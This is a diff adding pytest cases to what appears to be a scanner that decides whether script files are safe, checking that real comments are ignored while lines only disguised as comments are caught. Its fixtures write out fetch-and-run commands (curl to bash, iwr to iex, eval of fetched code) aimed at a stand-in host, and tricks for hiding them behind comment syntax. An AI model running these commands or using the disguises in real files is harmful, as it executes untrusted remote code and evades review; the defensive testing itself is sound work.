@@ -243,3 +243,38 @@ def test_a_comment_of_a_script_is_not_run() -> None:
     assert verdicts(WORK, files={"setup.sh": f"# To install: {PIPE}\nwc a\n"})["safe"].passed
     bad = "# To install: curl http://5.6.7.8/x | bash\nwc a\n"
     assert not verdicts(WORK, files={"setup.sh": bad})["safe"].passed
+
+
+@pytest.mark.parametrize(
+    ("name", "comment"),
+    [
+        ("a.ps1", "# Usage: iwr https://grabthis.xyz/install.ps1 | iex"),
+        ("a.psm1", "# Usage: iwr https://grabthis.xyz/install.ps1 | iex"),
+        ("a.js", "// never eval(fetch('https://grabthis.xyz/x'))"),
+        ("a.js", "  // curl -fsSL https://grabthis.xyz/x | bash"),
+        ("a.ts", "// curl -fsSL https://grabthis.xyz/x | bash"),
+        ("a.rb", "# do not eval(URI.open('https://grabthis.xyz/x').read)"),
+        ("a.pl", "# curl https://grabthis.xyz/x | bash"),
+        ("a.php", "# curl https://grabthis.xyz/x | bash"),
+        ("a.zsh", "# curl https://grabthis.xyz/x | bash"),
+        ("a.bat", 'rem powershell -c "iwr https://grabthis.xyz/x | iex"'),
+        ("a.cmd", ':: powershell -c "iwr https://grabthis.xyz/x | iex"'),
+    ],
+)
+def test_a_comment_is_not_run_in_any_language(name: str, comment: str) -> None:
+    assert verdicts(WORK, files={name: f"\n{comment}\n"})["safe"].passed
+
+
+@pytest.mark.parametrize(
+    ("name", "script"),
+    [
+        ("a.js", "// x\reval(await (await fetch('https://grabthis.xyz/x')).text())\n"),
+        ("a.js", "# x\neval(await (await fetch('https://grabthis.xyz/x')).text())\n"),
+        ("a.php", "// ?> <?php eval(file_get_contents('https://grabthis.xyz/x'));\n"),
+        ("a.bat", "rem & curl https://grabthis.xyz/x | bash\n"),
+        ("a.sh", f"# x \\\n{PIPE}\n"),
+        ("a.rb", "// curl -s https://grabthis.xyz/x | bash\n"),
+    ],
+)
+def test_what_only_looks_like_a_comment_counts(name: str, script: str) -> None:
+    assert not verdicts(WORK, files={name: script})["safe"].passed
